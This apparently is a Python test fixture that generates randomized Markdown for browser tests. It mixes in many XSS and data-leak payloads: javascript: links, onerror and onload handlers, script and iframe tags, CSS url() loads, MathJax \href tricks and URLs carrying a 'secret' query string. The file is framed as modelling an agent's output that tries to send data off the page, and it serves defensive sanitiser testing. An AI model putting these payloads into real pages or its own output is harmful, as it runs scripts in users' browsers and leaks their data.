"""Markdown as an agent might write it that wants to leave the page: generated, for tests in a browser."""

from __future__ import annotations

import random
from collections.abc import Iterator

# URL stands for an address at which a stranger listens.
_WORDS = [
    *"`~<>![](){}*_\\&#;:$|-+.=\"'/ \t\n",
    *("```", "~~~", "\n\n", "    ", "> ", "- ", "1. ", "# ", "| ", "|-|\n", "$$", "\\(", "\\)", "\\[", "\\]", "word"),
    *(" x ", "javascript:", "JaVaScRiPt&colon;", "java\nscript:", "vbscript:", "data:text/html,"),
    *("data:image/png;base64,", "//", "URL"),
    *("&#106;", "&lt;", "&gt;", "&quot;", "&#x22;", "&colon;", "&NewLine;", "&#0;", "\0", "\u2028", "\ufeff"),
    *("\u202e", "](", "![", "!!", "[x]: ", "[^1]: ", "[x][y]", "<URL>", "<mailto:a@b.c>"),
    *("{: style='color:red'}", "{.class #id}"),
]
_WHOLES = [
    "![x](URL)",
    "!![x](URL?q=secret)",
    '[![x](URL)](URL "title")',
    "![x][y]\n\n[y]: URL",
    "[x](URL 'onmouseover=alert(1)')",
    "[x](javascript:window.harm=1)",
    "[x](data:text/html,<script>window.harm=1</script>)",
    "<img src=URL onerror=window.harm=1>",
    "<img srcset='URL 1x'>",
    "<script src=URL></script><script>window.harm=1</script>",
    "<style>@import 'URL'; body { background: url(URL) }</style>",
    "<link rel=stylesheet href=URL><link rel=prefetch href=URL>",
    "<p style='background: url(URL)'>x</p>",
    "<iframe src=URL></iframe><iframe srcdoc='<script>parent.harm=1</script>'></iframe>",
    "<svg onload=window.harm=1><image href=URL /><use href=URL /></svg>",
    "<video poster=URL src=URL autoplay></video><audio src=URL></audio>",
    "<object data=URL></object><embed src=URL>",
    "<base href=URL><meta http-equiv=refresh content='0;url=URL'>",
    "<form action=URL><input type=image src=URL autofocus onfocus=window.harm=1></form>",
    "<details open ontoggle=window.harm=1>x</details>",
    "<math><maction xlink:href=URL>x</maction></math>",
    "<a href=URL ping=URL autofocus onfocus=window.harm=1 tabindex=1>x</a>",
    "<!--><img src=URL>-->",
    "<noscript><p title='</noscript><img src=URL>'>",
    "<template><img src=URL></template>",
    '```"><img src=URL>\nx\n```',
    "```python onclick=window.harm=1 style='background:url(URL)'\nprint(1)\n```",
    "```html\n<img src=URL>\n```",
    "```mermaid\ngraph TD; A[<img src=URL>]\n```",
    "| a | b |\n|-|-|\n| <img src=URL> | ![x](URL) |",
    "$\\style{background-image:url(URL)}{x}$",
    "$$\\href{javascript:window.harm=1}{x}$$",
    "\\(\\href{URL}{x} \\class{jp-mod-evil}{y} \\cssId{evil}{z}\\)",
    "$\\includegraphics{URL} \\require{html} \\unicode[URL]{x41}$",
    "$\\require{action} \\toggle{\\style{background:url(URL)}{x}}{y}\\endtoggle$",
    "<span>$</span>\\style{background:url(URL)}{x}$",
    "<URL> URL www.example.org a@b.c",
    '[text](<URL> "<img src=URL>")',
]


def texts(count: int, seed: int, url: str) -> Iterator[str]:
    """Makes texts, the same ones for the same seed."""
    for number in range(count):
        chance = random.Random(seed * 10**9 + number)
        parts = (
            chance.choice(_WHOLES) if chance.random() < 0.15 else chance.choice(_WORDS)
            for _ in range(chance.randrange(1, 40))
        )
        text = "".join(parts)
        if chance.random() < 0.2:  # cut anywhere, and begun in the middle
            text = text[chance.randrange(len(text) + 1) :]
        yield text.replace("URL", f"{url}/{number}")
